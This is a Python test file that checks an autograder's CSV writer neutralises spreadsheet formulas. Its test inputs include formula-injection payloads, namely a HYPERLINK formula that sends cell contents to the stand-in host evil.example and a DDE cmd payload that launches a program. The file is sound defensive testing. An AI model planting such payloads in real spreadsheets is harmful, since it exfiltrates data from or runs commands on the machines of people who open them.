"""Every CSV the grader writes neutralises text a spreadsheet would run as a formula (issue 12)."""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from autograder.pipeline.csvsafe import csv_writer, neutralise

PACKAGE = Path(__file__).resolve().parents[2] / "autograder"


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1",
])
def test_is_text_starting_like_a_formula_written_as_plain_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("cell", [
    "Zoë Durand", "-1.5", "+2", "-", "@", "", "1e-3", -1.5, 3, None, "a=b", "Participant 7",
])
def test_are_numbers_plain_names_and_lone_signs_left_alone(cell):
    assert neutralise(cell) == cell


def test_does_the_writer_neutralise_every_row_it_writes():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=cmd()", -1.0, "-"])
    writer.writerows([["@x", "ok"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=cmd()", "-1.0", "-"], ["'@x", "ok"]]


def test_does_no_module_write_csv_without_the_safe_writer():
    """The mechanism, not the case: csv.writer and csv.DictWriter appear only in csvsafe.py."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert offenders == [], f"write CSV with autograder.pipeline.csvsafe.csv_writer: {offenders}"


def test_does_the_canvas_file_neutralise_a_formula_in_a_name(tmp_path, monkeypatch):
    """A display name from the roster reaches the Canvas import file as plain text."""
    from autograder.pipeline import lms_csv

    monkeypatch.setattr(lms_csv, "read_run", lambda out_dir: (
        ["01_single_neuron"], {"01_single_neuron": 16.0},
        {("s1", "01_single_neuron"): 12.0},
        {"s1": {"name": '=HYPERLINK("http://evil.example","x")', "section": "-A"}}))
    path = lms_csv.write_canvas(tmp_path)
    text = path.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not cell.startswith("=") for row in rows for cell in row), rows
    assert any(cell.startswith("'=HYPERLINK") or "'=HYPERLINK" in cell
               for row in rows for cell in row), rows
